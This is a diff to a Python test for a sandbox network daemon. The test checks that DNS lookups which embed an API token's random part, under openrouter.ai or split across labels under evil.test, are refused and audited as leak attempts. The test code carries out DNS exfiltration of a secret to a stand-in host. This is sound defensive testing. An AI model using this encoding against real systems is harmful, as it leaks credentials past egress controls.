@@ -129,17 +129,20 @@ def test_dns_name_with_token_is_a_leak_attempt(transparent):
     """Tripwire: a token's random part in a DNS name (even under an allowed
     wildcard like *.openrouter.ai, or split across labels) gets NXDOMAIN and an
     audit record naming the sandbox as the daemon's records do, never the token."""
-    rand = transparent.token.rsplit("-", 1)[1]
-    names = [f"{rand}.openrouter.ai", f"x{rand[:16]}.{rand[16:]}.evil.test"]
-    code = ("import socket, sys\n"
-            "for n in sys.argv[1:]:\n"
+    # the sandbox's own token (keyhole sandbox gives it one of its own)
+    code = ("import os, socket\n"
+            "rand = os.environ['OPENAI_API_KEY'].rsplit('-', 1)[1]\n"
+            "print(rand)\n"
+            "for n in (f'{rand}.openrouter.ai', f'x{rand[:16]}.{rand[16:]}.evil.test'):\n"
             "    try: print(socket.getaddrinfo(n, 443)[0][4][0])\n"
             "    except socket.gaierror: print('refused')\n")
     # and, from the same sandbox, a request through the daemon for its identity there
-    r = transparent.run("sh", "-c", '/usr/bin/python3 -c "$0" "$1" "$2" && exec curl -q -sS '
+    r = transparent.run("sh", "-c", '/usr/bin/python3 -c "$0" && exec curl -q -sS '
                         '--max-time 10 -o /dev/null https://api.openai.test/v1/models',
-                        code, *names)
-    assert r.rc == 0 and r.out.split() == ["refused", "refused"], r
+                        code)
+    assert r.rc == 0 and r.out.split()[1:] == ["refused", "refused"], r
+    rand = r.out.split()[0]
+    assert len(rand) == 32 and rand not in transparent.token, r
     recs = audit(transparent)
     leaks = [a for a in recs if a.get("reason") == "token_leak_attempt"]
     assert all(a["mode"] == "dns" and a["decision"] == "deny" for a in leaks), leaks
